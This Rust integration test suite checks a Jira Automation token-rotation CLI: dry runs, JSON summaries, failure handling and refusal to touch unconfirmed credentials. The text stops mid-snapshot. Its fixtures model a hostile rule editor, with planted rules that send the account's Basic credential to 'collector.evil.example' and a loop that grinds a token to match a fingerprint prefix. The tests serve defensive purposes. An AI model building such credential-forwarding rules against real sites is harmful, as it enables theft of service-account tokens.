//! `autorekey rotate` end to end: the real binary, as an admin at a desk or a CI job runs
//! it, against in-process sandbox sites over loopback HTTP.
//!
//! Here: a rotation with `--yes`, `--dry-run` and `--format json`; the offline export
//! rotation (`--from-file`); the verdict (when the summary says the old token may be
//! revoked, and every way it holds that back: reruns, resumed runs, masked or unreadable
//! values, drifting rule lists); ownership (only the account's real old token is replaced,
//! planted credentials are left alone, each unconfirmed value is one question); scoped
//! tokens and service-account migrations through the gateway; faults, throttling, lost
//! answers, Ctrl-C and the site lock; and the interactive run under a pseudo-terminal
//! (`common::terminal::Screen`): the hidden new-token prompt and the per-rule and per-group
//! questions.
//!
//! Each rotation ends by comparing every rule on the site with what it must be
//! (`rotate_support::Expected`): a rotated rule is exactly the judge's rewrite of the rule
//! as it was, every other rule byte-identical. Every run's output is checked for every
//! token first (`common::run_checked`).
//!
//! Elsewhere: a saved plan carried out by `apply`: test_apply_command; putting rules back:
//! test_restore_command; one run over several sites: test_several_sites; hostile servers,
//! hostile rule text and the hidden prompt's own edges: test_security; the long fault
//! soak: test_soak.

use crate::common;
use crate::common::hostile::{ok, one_rule, rule_site, Scripted, HOSTILE_ADMIN};
use crate::common::scoped::{
    account, gateway_url, migration_site, run_with_gateway, scoped, site, stored, web_request_to,
    BOT, CAROL, CLOUD, MIGRATE, NO_ME,
};
use crate::common::snapshot::{normalized, normalized_naming, normalized_streams};
use crate::common::terminal::{backups, group_question, question, Desk, Screen, GROUP_ANSWERS};
use crate::common::{
    assert_no_secrets, fake_token, run_checked, std_command, Planted, RunOutput, TestSite, ALICE,
};
use crate::rotate_support::ownership::{
    basic, planted_site, rule_with_web_request, site_with, PLANTED_JUNK, PLANTED_MORE,
    PLANTED_SITE, PLANTED_VAR, REAL, REAL_ECHOED, REAL_TOO,
};
use crate::rotate_support::rotate::{rotate_until_done, run};
use crate::rotate_support::verdict::{
    fp, old_and_new, revoke_line, rotated_beside, slow_site, svc_jira_pointer,
};
use crate::rotate_support::*;
use autorekey::journal;
use autorekey::secret::{Credential, Fingerprint, Token};
use serde_json::{json, Value};
use std::collections::BTreeSet;
use std::path::Path;
use std::sync::Arc;

/// The admin's login refused at the write of the last rule of a rotation stops the run
/// (exit 1, "check the admin's token"), as it does before any other rule; in the JSON
/// summary too, which quotes the server's error with every token masked.
#[test]
fn a_rotation_whose_last_write_is_refused_with_401_stops_with_exit_1() {
    let (envelope, _, old) = one_rule();
    let (admin_token, new_token) = (fake_token(), fake_token());
    let site = rule_site(
        (HOSTILE_ADMIN, admin_token.clone()),
        (
            basic(SVC_JIRA, &new_token),
            json!({"accountId": "acc-svc", "emailAddress": SVC_JIRA}),
        ),
        envelope,
        |method, _| match method {
            "PUT" => (401, Vec::new(), r#"{"message":"Unauthorized"}"#.to_owned()),
            _ => (404, Vec::new(), r#"{"message":"no such page"}"#.to_owned()),
        },
    );
    for format in ["text", "json"] {
        let backups = tempfile::tempdir().unwrap();
        let mut cmd = site.cmd(HOSTILE_ADMIN, &admin_token);
        cmd.env("AUTOREKEY_NEW_TOKEN", &new_token)
            .env("AUTOREKEY_OLD_TOKEN", &old)
            .args(["rotate", "--account", SVC_JIRA, "--yes", "--format", format])
            .arg("--backup-dir")
            .arg(backups.path());
        let out = run_checked(cmd, &[admin_token.clone(), new_token.clone(), old.clone()]);
        out.expect_code(1).expect_error_with_hint();
        assert!(out.stderr.contains("admin's token"), "{}", out.stderr);
        if format == "json" {
            let summary = out.json();
            assert_eq!(summary["counts"]["failed"], 1, "{summary}");
            assert_eq!(summary["verdict"]["revoke"], false);
        }
    }
}

/// The re-read just before a write must be the rule that was shown: an answer for another
/// rule is a failure, never a rewrite of that other rule.
#[test]
fn a_rotation_whose_re_read_answers_with_another_rule_writes_nothing() {
    let (envelope, uuid, old) = one_rule();
    let (admin_token, new_token) = (fake_token(), fake_token());
    let mut other = envelope.clone();
    other["rule"]["uuid"] = json!(uuid::Uuid::now_v7().to_string());
    let reads = Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let puts = Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let logins = [
        (basic(HOSTILE_ADMIN, &admin_token), HOSTILE_ADMIN),
        (basic(SVC_JIRA, &new_token), SVC_JIRA),
    ];
    let (r, p) = (Arc::clone(&reads), Arc::clone(&puts));
    let site = Scripted::start(move |method, path, auth| match (method, path) {
        ("GET", "/rest/api/3/myself") => match logins.iter().find(|(a, _)| a == auth) {
            Some((_, email)) => ok(json!({"accountId": email, "emailAddress": email})),
            None => (401, Vec::new(), String::new()),
        },
        ("GET", "/api/rule/summary") => ok(json!({"links": {"next": null}, "data": [
            {"uuid": uuid, "name": "n", "state": "ENABLED"}]})),
        ("GET", path) if path == format!("/api/rule/{uuid}") => {
            match r.fetch_add(1, std::sync::atomic::Ordering::SeqCst) {
                0 => ok(envelope.clone()),
                _ => ok(other.clone()),
            }
        }
        ("PUT", _) => {
            p.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            ok(json!({"ruleUuid": "x"}))
        }
        _ => (404, Vec::new(), r#"{"message":"no such page"}"#.to_owned()),
    });
    let backups = tempfile::tempdir().unwrap();
    let mut cmd = site.cmd(HOSTILE_ADMIN, &admin_token);
    cmd.env("AUTOREKEY_NEW_TOKEN", &new_token)
        .env("AUTOREKEY_OLD_TOKEN", &old)
        .args(["rotate", "--account", SVC_JIRA, "--yes", "--backup-dir"])
        .arg(backups.path());
    let out = run_checked(cmd, &[admin_token.clone(), new_token.clone(), old.clone()]);
    out.expect_code(3);
    assert_eq!(
        puts.load(std::sync::atomic::Ordering::SeqCst),
        0,
        "{}",
        out.stdout
    );
    assert_eq!(summary_count(&out.stdout, "failed"), 1, "{}", out.stdout);
}

#[test]
fn planted_credentials_get_nothing_and_the_real_ones_are_rotated() {
    let p = planted_site();
    let before: Vec<String> = [PLANTED_JUNK, PLANTED_SITE, PLANTED_VAR, PLANTED_MORE]
        .iter()
        .map(|u| p.rule(u))
        .collect();

    let out = p.rotate(&["--yes", "--format", "json"]);
    out.expect_code(3);
    let json = out.json();

    // The real rules hold the new token, hidden now; the planted ones are byte-identical.
    for uuid in [REAL, REAL_TOO, REAL_ECHOED] {
        let rule = p.rule(uuid);
        assert!(rule.contains(&basic(ALICE, &p.new)), "{uuid} rotated");
        assert!(rule.contains("\"headerSecure\":true"), "{uuid} hidden");
    }
    let after: Vec<String> = [PLANTED_JUNK, PLANTED_SITE, PLANTED_VAR, PLANTED_MORE]
        .iter()
        .map(|u| p.rule(u))
        .collect();
    assert_eq!(before, after, "no planted rule was written");
    assert_eq!(p.site.stats().puts_per_rule.len(), 3, "three writes in all");

    // At most two failed logins: the junk is not token-shaped, the third fake not tried.
    assert!(
        p.failed_logins() <= 2,
        "{} failed logins",
        p.failed_logins()
    );

    assert_eq!(json["verdict"]["advice"], "unconfirmed");
    assert_eq!(json["verdict"]["revoke"], false);
    let old_fps: Vec<&str> = json["old_fingerprints"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(Value::as_str)
        .collect();
    assert_eq!(old_fps, vec![Fingerprint::of(&p.old).to_string()]);
    assert_eq!(json["confirmed"][0]["evidence"], "login");
    let unconfirmed = json["unconfirmed"].as_array().expect("unconfirmed groups");
    assert_eq!(unconfirmed.len(), 4, "{unconfirmed:#?}");
    let logins: Vec<&str> = unconfirmed
        .iter()
        .filter_map(|u| u["login"].as_str())
        .collect();
    assert!(logins.contains(&"not_token_shaped"), "{logins:?}");
    assert!(logins.contains(&"budget_spent"), "{logins:?}");
    assert_eq!(logins.iter().filter(|l| **l == "refused").count(), 2);
    let junk = unconfirmed
        .iter()
        .find(|u| u["login"] == "not_token_shaped")
        .unwrap();
    assert_eq!(junk["destinations"][0], "collector.evil.example");
}

#[test]
fn the_summary_says_revoke_nothing_yet_and_how_to_confirm() {
    let p = planted_site();
    let out = p.rotate(&["--yes"]);
    out.expect_code(3);
    let text = &out.stdout;
    // Which two planted values are tried at login follows their fingerprints' order, new
    // every run: the login lines are masked here and checked below.
    let login = regex::Regex::new(r"(?m)^(    login:    )(refused|not tried).*$").unwrap();
    let shown = login.replace_all(text, "${1}[refused or not tried]");
    insta::assert_snapshot!(normalized(&shown), @r#"
    Rule "Real: comment" (0190f3a2-0000-7000-8000-00000000a001)
    --- Real: comment (as read)
    +++ Real: comment (rotated)
    @@ -25,6 +25,6 @@
                 "id": "h1",
                 "name": "Authorization",
    -            "value": "Basic <alice@acme.example · [fp1]>",
    -            "headerSecure": false
    +            "value": "Basic <alice@acme.example · [fp2]>",
    +            "headerSecure": true
               }
             ],

    Rule "Real: pasted from a terminal" (0190f3a2-0000-7000-8000-00000000a003)
    --- Real: pasted from a terminal (as read)
    +++ Real: pasted from a terminal (rotated)
    @@ -25,6 +25,6 @@
                 "id": "h1",
                 "name": "Authorization",
    -            "value": "Basic <alice@acme.example · [fp1]>",
    -            "headerSecure": false
    +            "value": "Basic <alice@acme.example · [fp2]>",
    +            "headerSecure": true
               }
             ],

    Rule "Real: transition" (0190f3a2-0000-7000-8000-00000000a002)
    --- Real: transition (as read)
    +++ Real: transition (rotated)
    @@ -25,6 +25,6 @@
                 "id": "h1",
                 "name": "Authorization",
    -            "value": "Basic <alice@acme.example · [fp1]>",
    -            "headerSecure": false
    +            "value": "Basic <alice@acme.example · [fp2]>",
    +            "headerSecure": true
               }
             ],

    Summary for alice@acme.example (old [fp1] → new [fp2]); 7 rules read:
      rotated          3
      left alone       4
      - Left alone "Planted: as alice": holds a value of the account ([fp3]) that nothing confirmed as its token: it may have been planted, so it gets nothing (see "Not confirmed" below) (0190f3a2-0000-7000-8000-00000000b002)
      - Left alone "Planted: one more": holds a value of the account (k:[fp4]) that nothing confirmed as its token: it may have been planted, so it gets nothing (see "Not confirmed" below) (0190f3a2-0000-7000-8000-00000000b004)
      - Left alone "Planted: to evil": holds a value of the account (k:[fp5]) that nothing confirmed as its token: it may have been planted, so it gets nothing (see "Not confirmed" below) (0190f3a2-0000-7000-8000-00000000b001)
      - Left alone "Planted: variable": holds a value of the account (k:[fp6]) that nothing confirmed as its token: it may have been planted, so it gets nothing (see "Not confirmed" below) (0190f3a2-0000-7000-8000-00000000b003)

    Old token [fp1] confirmed as alice@acme.example's: it logs in as the account.
    Not confirmed as alice@acme.example's token (left alone; each may be planted by a rule editor):
      alice@acme.example · [fp3]
        rules:    "Planted: as alice" (0190f3a2-0000-7000-8000-00000000b002)
        sends to: the site ({{baseUrl}})
        authors:  712020:author-of-Planted: as alice
        login:    [refused or not tried]
        if it is alice@acme.example's token: rerun with --fingerprint [fp3] (or give it with --old-token-file)
      alice@acme.example · k:[fp4]
        rules:    "Planted: one more" (0190f3a2-0000-7000-8000-00000000b004)
        sends to: collector.evil.example
        authors:  712020:author-of-Planted: one more
        login:    [refused or not tried]
        if it is alice@acme.example's token: rerun with --fingerprint k:[fp4] (or give it with --old-token-file)
      alice@acme.example · k:[fp5]
        rules:    "Planted: to evil" (0190f3a2-0000-7000-8000-00000000b001)
        sends to: collector.evil.example
        authors:  712020:author-of-Planted: to evil
        login:    [refused or not tried]
        if it is alice@acme.example's token: rerun with --fingerprint k:[fp5] (or give it with --old-token-file)
      alice@acme.example · k:[fp6]
        rules:    "Planted: variable" (0190f3a2-0000-7000-8000-00000000b003)
        sends to: no address (a variable or a body a relay forwards)
        login:    [refused or not tried]
        if it is alice@acme.example's token: rerun with --fingerprint k:[fp6] (or give it with --old-token-file)

    Backups (mode 0600, they hold the old tokens): [tmp]/backups/127.0.0.1-[stamp]
    Journal: [tmp]/backups/127.0.0.1-[stamp]/journal.jsonl
    Undo with: autorekey restore [tmp]/backups/127.0.0.1-[stamp]

    Next steps:
      - Revoke nothing yet: 4 values of alice@acme.example in the rules were not confirmed as its token and were left alone (listed under "Not confirmed").
      - If one is a token of the account (say, an expired one), rerun with the --fingerprint it lists, or give it with --old-token-file; if it is not (planted or junk), remove it from the rule in the Automation UI. Then run again.
    Keep the old [fp1] and the new [fp2]; revoke nothing yet.
    "#);
    assert_eq!(text.matches("login:    refused").count(), 2, "{text}");
    assert!(
        text.contains("login:    not tried: two logins already failed"),
        "{text}"
    );
    // The fingerprint it lists is that of the planted value, as the snapshot cannot show.
    let fp = Fingerprint::of(&p.fakes[0]).to_string();
    assert!(text.contains(&format!("--fingerprint {fp}")), "{text}");
}

#[test]
fn an_expired_real_token_is_rotated_once_named_and_a_given_old_token_confirms_its_rules() {
    let p = planted_site();
    // The named fingerprint confirms that value (and selects only it).
    let fp = Fingerprint::of(&p.fakes[0]).to_string();
    let out = p.rotate(&["--yes", "--fingerprint", &fp, "--format", "json"]);
    assert_eq!(out.json()["confirmed"][0]["evidence"], "fingerprint");
    assert!(p.rule(PLANTED_SITE).contains(&basic(ALICE, &p.new)));
    assert!(p.rule(REAL).contains(&basic(ALICE, &p.old)), "not selected");
    assert_eq!(p.failed_logins(), 0, "a named value is not tried");

    // The old token given confirms the rules holding it, without a login.
    let q = planted_site();
    let old_file = q.site.write_file("old-token", &q.old);
    let out = q.rotate(&[
        "--yes",
        "--old-token-file",
        old_file.to_str().unwrap(),
        "--format",
        "json",
    ]);
    let json = out.json();
    assert_eq!(json["confirmed"][0]["evidence"], "old_token_file");
    assert!(q.rule(REAL).contains(&basic(ALICE, &q.new)));
    assert!(q.rule(PLANTED_SITE).contains(&basic(ALICE, &q.fakes[0])));
}

fn rotate_on(site: &TestSite, new: &str, extra: &[&str]) -> RunOutput {
    let new_file = site.write_file(&format!("new-{}", uuid::Uuid::new_v4()), new);
    let mut cmd = site.cmd();
    cmd.args(["rotate", "--account", ALICE, "--new-token-file"])
        .arg(&new_file)
        .arg("--backup-dir")
        .arg(site.dir.path().join("backups"))
        .args(extra);
    site.run_cmd(cmd)
}

/// Review finding: `--fingerprint` with a short prefix confirmed every value it selected,
/// and a rule editor can grind an Atlassian-shaped value whose (plain) fingerprint starts
/// like the real token's. A prefix selects, but only a whole fingerprint naming one value
/// confirms; the real token is confirmed by its login, the ground value gets nothing.
#[test]
fn a_fingerprint_prefix_never_confirms_a_value_ground_to_match_it() {
    let (old, new) = (fake_token(), fake_token());
    let want = Fingerprint::of(&old).to_string()[..4].to_string();
    let junk = (0u64..)
        .map(|i| format!("ATATT3xFfGF0{i:0>60}"))
        .find(|j| Fingerprint::of(j).to_string().starts_with(&want))
        .expect("a value sharing four hex digits");
    let rules = vec![
        rule_with_web_request(
            REAL,
            "Real",
            "{{baseUrl}}/rest/api/3/issue",
            &basic(ALICE, &old),
            "ENABLED",
        ),
        rule_with_web_request(
            PLANTED_JUNK,
            "Planted: to evil",
            "https://collector.evil.example/in",
            &basic(ALICE, &junk),
            "DISABLED",
        ),
    ];
    let site = site_with(rules, &old, &new, vec![junk.clone()]);
    let out = rotate_on(
        &site,
        &new,
        &["--yes", "--fingerprint", &want, "--format", "json"],
    );
    out.expect_code(3);
    let evil = site.state().rule(PLANTED_JUNK).unwrap().to_string();
    assert!(
        evil.contains(&basic(ALICE, &junk)),
        "the ground value got nothing"
    );
    let real = site.state().rule(REAL).unwrap().to_string();
    assert!(
        real.contains(&basic(ALICE, &new)),
        "the real token, confirmed by login"
    );
    assert_eq!(out.json()["confirmed"][0]["evidence"], "login");
}

/// Review finding: a rerun named for revoking every value of the account in the earlier
/// run's backups, a planted one beside the real token included, once the admin removed
/// it. Only what an earlier run wrote over (its journal says) is an old token.
#[test]
fn a_rerun_never_names_an_unconfirmed_value_for_revoking() {
    let (old, new) = (fake_token(), fake_token());
    let mut mixed = rule_with_web_request(
        REAL,
        "Mixed",
        "{{baseUrl}}/rest/api/3/issue",
        &basic(ALICE, &old),
        "ENABLED",
    );
    let evil = rule_with_web_request(
        PLANTED_JUNK,
        "x",
        "https://collector.evil.example/in",
        &basic(ALICE, "junk-password-1"),
        "ENABLED",
    );
    let mut planted = evil["rule"]["components"][0].clone();
    planted["id"] = json!("3");
    mixed["rule"]["components"]
        .as_array_mut()
        .unwrap()
        .push(planted);
    let site = site_with(vec![mixed], &old, &new, vec!["junk-password-1".into()]);
    rotate_on(&site, &new, &["--yes"]).expect_code(3);
    // The admin removes the planted component the summary listed.
    site.state().edit_rule(REAL, |r| {
        r["rule"]["components"].as_array_mut().unwrap().truncate(1);
    });
    let out = rotate_on(&site, &new, &["--yes", "--format", "json"]);
    let json = out.json();
    let junk = crate::common::keyed_fingerprint("junk-password-1").to_string();
    assert_eq!(
        json["old_fingerprints"],
        json!([Fingerprint::of(&old).to_string()]),
        "only the replaced token is old; the planted {junk} is not"
    );
    assert_eq!(
        json["verdict"]["revoke_fingerprints"],
        json!([Fingerprint::of(&old).to_string()])
    );
}

/// Fixture rules the svc-jira rotation must rewrite, one per shape the fixtures cover.
const SVC_JIRA_CASES: [(&str, &str); 13] = [
    ("01", "schema 1 header at top level"),
    ("02", "schema 2 literal header"),
    ("04", "hidden header"),
    ("06", "if/else blocks"),
    ("07", "branch > nested if/else, 6 levels"),
    ("08", "disabled rule"),
    ("10", "odd header format"),
    ("12", "create variable"),
    ("14", "custom body"),
    ("15", "unknown fields"),
    ("16", "foreign connections"),
    ("17", "edited by another admin between reads"),
    ("e1", "UI export rule"),
];

fn uuids(numbers: &[&str]) -> BTreeSet<String> {
    numbers.iter().map(|n| fixture_uuid(n)).collect()
}

// ------------------------------------------------------------------ 1. the whole rotation

#[test]
fn yes_rotates_every_fixture_case_and_leaves_everything_else_byte_identical() {
    let fx = FixtureRotation::start();
    let expected = fx.expected();
    let cases: Vec<&str> = SVC_JIRA_CASES.iter().map(|(n, _)| *n).collect();
    assert_eq!(
        expected.rotated_uuids(),
        uuids(&cases),
        "the expectation covers exactly the fixture cases"
    );
    let backups = fx.site.dir.path().join("backups");

    let out = run(&fx.site, fx.rotate(&backups, &["--yes"]));
    // Rules 05 (masked on read), 19 and e2 (masked values) are left alone: exit 3.
    out.expect_code(3);
    expected.assert_site(&fx.site);
    let now = snapshot(&fx.site);
    let postmortem = &now[&foreign_connections()];
    assert_eq!(
        postmortem["rule"]["state"], "ENABLED",
        "rule 16 stays enabled"
    );
    let race = &now[&edit_race()]["rule"];
    assert!(race["description"]
        .as_str()
        .is_some_and(|d| d.ends_with("(edited by another admin)")));
    assert!(race["labels"]
        .as_array()
        .is_some_and(|l| l.contains(&"edited-elsewhere".into())));

    assert_eq!(summary_count(&out.stdout, "rotated"), cases.len());
    assert_eq!(summary_count(&out.stdout, "left alone"), 3);
    assert_eq!(summary_count(&out.stdout, "failed"), 0);
    for uuid in [masked_on_read(), fixture_uuid("19"), fixture_uuid("e2")] {
        assert!(
            out.stdout.contains(&format!("({uuid})")),
            "the summary lists {uuid} with why it was left alone:\n{}",
            out.stdout
        );
    }
    assert!(out.stdout.contains("Basic <svc-jira@acme.example · "));
    assert!(out
        .stderr
        .contains("changed since it was read; writing this rebuilt rewrite instead"));
    for uuid in expected.rotated_uuids() {
        assert_eq!(fx.site.stats().puts(&uuid), 1, "one PUT for {uuid}");
    }
    assert_eq!(
        puts(&fx.site),
        cases.len() as u64,
        "no PUT for any other rule"
    );

    let run_dir = only_run_dir(&backups);
    assert_backup_run(&run_dir, &expected, &expected.rotated_uuids());
    let steps = steps_by_rule(&journal_of(&run_dir));
    for uuid in expected.rotated_uuids() {
        assert_eq!(steps[&uuid], ["writing", "verified"], "journal of {uuid}");
    }

    // A second run finds nothing left: the rotated rules already hold the new token.
    let puts_before = puts(&fx.site);
    let again = run(&fx.site, fx.rotate(&backups, &["--yes"]));
    again.expect_code(3);
    assert_eq!(summary_count(&again.stdout, "already current"), cases.len());
    assert_eq!(summary_count(&again.stdout, "rotated"), 0);
    assert_eq!(puts(&fx.site), puts_before, "the rerun wrote nothing");
    expected.assert_site(&fx.site);

    // `autorekey backups` lists the run: where, whose, how many rules, finished.
    let mut list = common::autorekey();
    list.args(["backups", "--format", "json", "--backup-dir"])
        .arg(&backups);
    let listed = run(&fx.site, list);
    listed.expect_code(0);
    let runs = listed.json();
    let runs = runs.as_array().expect("a JSON array of runs");
    let first = runs
        .iter()
        .find(|r| r["dir"].as_str() == run_dir.to_str())
        .expect("the rotation's run is listed");
    assert_eq!(first["account"], SVC_JIRA);
    assert!(first["site"]
        .as_str()
        .is_some_and(|s| s.starts_with(&fx.site.base_url())));
    assert_eq!(first["rules"], cases.len());
    assert_eq!(first["state"], "finished");
    let started: Vec<&str> = runs
        .iter()
        .filter_map(|r| r["started_at"].as_str())
        .collect();
    assert!(
        started.windows(2).all(|w| w[0] >= w[1]),
        "newest first: {started:?}"
    );
}

#[test]
fn svc_ci_rotates_in_url_userinfo_header_and_lookup_table() {
    let planted = common::Planted::fixtures();
    let new_token = fake_token();
    let issued = new_token.clone();
    let mut spec = planted.site_spec().with(|config| {
        let svc_ci = config
            .accounts
            .iter_mut()
            .find(|a| a.email == SVC_CI)
            .expect("the svc-ci account");
        svc_ci
            .tokens
            .push(autorekey::secret::Token::new(issued.clone()));
    });
    spec.secrets.push(new_token.clone());
    let site = spec.start();
    let before = snapshot(&site);
    let expected = Expected::rotation(&before, SVC_CI, &new_token);
    // Rule 11 holds svc-ci in URL userinfo, rule 21 in a header; rule 22's lookup table
    // holds it too, and is rotated like any literal Basic value.
    assert_eq!(expected.rotated_uuids(), uuids(&["11", "21", "22"]));

    let backups = site.dir.path().join("backups");
    let out = run(
        &site,
        rotate_cmd(&site, SVC_CI, &new_token, &backups, &["--yes"]),
    );
    out.expect_code(3);
    expected.assert_site(&site);
    assert_eq!(summary_count(&out.stdout, "rotated"), 3);
    // The `?token=` on rule 11's other URL is not a Basic credential of svc-ci: kept.
    let smoke = serde_json::to_string(&snapshot(&site)[&fixture_uuid("11")]).unwrap();
    assert!(smoke.contains(&planted.fresh("FAKE-jenkins-remote-trigger-8888")));
}

// ------------------------------------------------------------------ 2. dry run, plan, apply

#[test]
fn dry_run_writes_nothing_and_shows_redacted_diffs() {
    let fx = FixtureRotation::start();
    let backups = fx.site.dir.path().join("backups");
    let out = run(&fx.site, fx.rotate(&backups, &["--dry-run"]));
    out.expect_code(0);
    assert_eq!(puts(&fx.site), 0, "a dry run sends no PUT");
    Expected::read_only(&fx.before).assert_site(&fx.site);
    assert!(!backups.exists(), "a dry run creates no backup");
    insta::assert_snapshot!(normalized(&out.stdout), @r#"
    Rule "ENG: Assign to component lead (hidden auth header)" (0190f3a2-5b7c-7d21-8e4f-a1b2c3d4e504)
    --- ENG: Assign to component lead (hidden auth header) (as read)
    +++ ENG: Assign to component lead (hidden auth header) (rotated)
    @@ -63,5 +63,5 @@
                 "id": "_header_1695919144218",
                 "name": "Authorization",
    -            "value": "Basic <svc-jira@acme.example · [fp1]>",
    +            "value": "Basic <svc-jira@acme.example · [fp2]>",
                 "headerSecure": true
               },

    Rule "ENG: Close auto-close sub-tasks when parent is Done" (0190f3a2-5b7c-7d21-8e4f-a1b2c3d4e507)
    --- ENG: Close auto-close sub-tasks when parent is Done (as read)
    +++ ENG: Close auto-close sub-tasks when parent is Done (rotated)
    @@ -98,5 +98,6 @@
                                     "id": "_header_1695919202722",
                                     "name": "Authorization",
    -                                "value": "Basic <svc-jira@acme.example · [fp1]>"
    +                                "value": "Basic <svc-jira@acme.example · [fp2]>",
    +                                "headerSecure": true
                                   },
                                   {

    Rule "ENG: Label PR-linked issues for review" (0190f3a2-5b7c-7d21-8e4f-a1b2c3d4e517)
    --- ENG: Label PR-linked issues for review (as read)
    +++ ENG: Label PR-linked issues for review (rotated)
    @@ -53,5 +53,6 @@
                 "id": "_header_1695919356295",
                 "name": "Authorization",
    -            "value": "Basic <svc-jira@acme.example · [fp1]>"
    +            "value": "Basic <svc-jira@acme.example · [fp2]>",
    +            "headerSecure": true
               },
               {

    Rule "FIN: Copy cost center from parent (OLD - disabled)" (0190f3a2-5b7c-7d21-8e4f-a1b2c3d4e508)
    --- FIN: Copy cost center from parent (OLD - disabled) (as read)
    +++ FIN: Copy cost center from parent (OLD - disabled) (rotated)
    @@ -41,5 +41,6 @@
                 "id": "_header_1695919217348",
                 "name": "Authorization",
    -            "value": "Basic <svc-jira@acme.example · [fp1]>"
    +            "value": "Basic <svc-jira@acme.example · [fp2]>",
    +            "headerSecure": true
               },
               {

    Rule "INC: Create postmortem page and link it" (0190f3a2-5b7c-7d21-8e4f-a1b2c3d4e516)
    --- INC: Create postmortem page and link it (as read)
    +++ INC: Create postmortem page and link it (rotated)
    @@ -66,5 +66,6 @@
                 "id": "_header_1695919341669",
                 "name": "Authorization",
    -            "value": "Basic <svc-jira@acme.example · [fp1]>"
    +            "value": "Basic <svc-jira@acme.example · [fp2]>",
    +            "headerSecure": true
               },
               {

    Rule "OPS: Auto-close duplicates (migrated from Data Center)" (0190f3a2-5b7c-7d21-8e4f-a1b2c3d4e502)
    --- OPS: Auto-close duplicates (migrated from Data Center) (as read)
    +++ OPS: Auto-close duplicates (migrated from Data Center) (rotated)
    @@ -54,5 +54,5 @@
                 "name": "Authorization",
                 "value": {
    -              "keyOrValue": "Basic <svc-jira@acme.example · [fp1]>",
    +              "keyOrValue": "Basic <svc-jira@acme.example · [fp2]>",
                   "secret": false
                 }

    Rule "OPS: Mirror label via internal relay" (0190f3a2-5b7c-7d21-8e4f-a1b2c3d4e514)
    --- OPS: Mirror label via internal relay (as read)
    +++ OPS: Mirror label via internal relay (rotated)
    @@ -46,5 +46,5 @@
             "sendIssue": false,
             "contentType": "custom",
    -        "customBody": "{\"target\":\"https://acme.example.atlassian.net/rest/api/3/issue/{{issue.key}}\",\"headers\":{\"Authorization\":\"Basic <svc-jira@acme.example · k:[fp3]>\"},\"payload\":{\"fields\":{\"labels\":[\"mirrored\"]}}}"
    +        "customBody": "{\"target\":\"https://acme.example.atlassian.net/rest/api/3/issue/{{issue.key}}\",\"headers\":{\"Authorization\":\"Basic <svc-jira@acme.example · k:[fp4]>\"},\"payload\":{\"fields\":{\"labels\":[\"mirrored\"]}}}"
           },
           "children": [],

    Rule "SUP: Escalate VIP customer tickets" (0190f3a2-5b7c-7d21-8e4f-a1b2c3d4e5e1)
    --- SUP: Escalate VIP customer tickets (as read)
    +++ SUP: Escalate VIP customer tickets (rotated)
    @@ -74,5 +74,6 @@
                 "id": "_header_1695919444051",
                 "name": "Authorization",
    -            "value": "Basic <svc-jira@acme.example · [fp1]>"
    +            "value": "Basic <svc-jira@acme.example · [fp2]>",
    +            "headerSecure": true
               },
               {

    Rule "SUP: Log 15m triage worklog as svc-jira" (0190f3a2-5b7c-7d21-8e4f-a1b2c3d4e512)
    --- SUP: Log 15m triage worklog as svc-jira (as read)
    +++ SUP: Log 15m triage worklog as svc-jira (rotated)
    @@ -38,5 +38,5 @@
             "query": {
               "type": "SMART",
    -          "value": "Basic <svc-jira@acme.example · k:[fp3]>"
    +          "value": "Basic <svc-jira@acme.example · k:[fp4]>"
             },
             "lazy": false

    Rule "SUP: Post acknowledgement comment as svc-jira on new tickets" (0190f3a2-5b7c-7d21-8e4f-a1b2c3d4e501)
    --- SUP: Post acknowledgement comment as svc-jira on new tickets (as read)
    +++ SUP: Post acknowledgement comment as svc-jira on new tickets (rotated)
    @@ -36,5 +36,6 @@
                 "id": "_header_1695919100340",
                 "name": "Authorization",
    -            "value": "Basic <svc-jira@acme.example · [fp1]>"
    +            "value": "Basic <svc-jira@acme.example · [fp2]>",
    +            "headerSecure": true
               },
               {

    Rule "SUP: Route by priority (escalate P1/P2, queue the rest)" (0190f3a2-5b7c-7d21-8e4f-a1b2c3d4e506)
    --- SUP: Route by priority (escalate P1/P2, queue the rest) (as read)
    +++ SUP: Route by priority (escalate P1/P2, queue the rest) (rotated)
    @@ -56,5 +56,6 @@
                         "id": "_header_1695919173470",
                         "name": "Authorization",
    -                    "value": "Basic <svc-jira@acme.example · [fp1]>"
    +                    "value": "Basic <svc-jira@acme.example · [fp2]>",
    +                    "headerSecure": true
                       },
                       {
    @@ -149,5 +150,6 @@
                         "id": "_header_1695919188096",
                         "name": "Authorization",
    -                    "value": "Basic <svc-jira@acme.example · [fp1]>"
    +                    "value": "Basic <svc-jira@acme.example · [fp2]>",
    +                    "headerSecure": true
                       },
                       {

    Rule "SUP: Thank reporter for attachments (beta builder)" (0190f3a2-5b7c-7d21-8e4f-a1b2c3d4e515)
    --- SUP: Thank reporter for attachments (beta builder) (as read)
    +++ SUP: Thank reporter for attachments (beta builder) (rotated)
    @@ -73,5 +73,6 @@
                 "id": "_header_1695919327043",
                 "name": "Authorization",
    -            "value": "Basic <svc-jira@acme.example · [fp1]>"
    +            "value": "Basic <svc-jira@acme.example · [fp2]>",
    +            "headerSecure": true
               },
               {

    Rule "SUP: store triage score property" (0190f3a2-5b7c-7d21-8e4f-a1b2c3d4e510)
    --- SUP: store triage score property (as read)
    +++ SUP: store triage score property (rotated)
    @@ -32,5 +32,6 @@
                 "id": "_header_1695919253913",
                 "name": "authorization",
    -            "value": "basic  <svc-jira@acme.example · [fp1]>"
    +            "value": "basic  <svc-jira@acme.example · [fp2]>",
    +            "headerSecure": true
               },
               {

    Summary for svc-jira@acme.example (old [fp1] → new [fp2]); 27 rules read:
      to rotate        13
      left alone       3
      - Left alone "ENG: Sync story points to roadmap tool": a hidden value is empty (""), as an export writes a hidden value (at /components/0/value/headers/0/value); it may be this account's old token, which autorekey can neither read nor safely rewrite. Check it in the Automation UI (0190f3a2-5b7c-7d21-8e4f-a1b2c3d4e5e2)
      - Left alone "INC: Link status page incident": a hidden value came back masked as *** (at /components/0/value/headers/0/value); it may be this account's old token, which autorekey can neither read nor safely rewrite. Check it in the Automation UI (0190f3a2-5b7c-7d21-8e4f-a1b2c3d4e505)
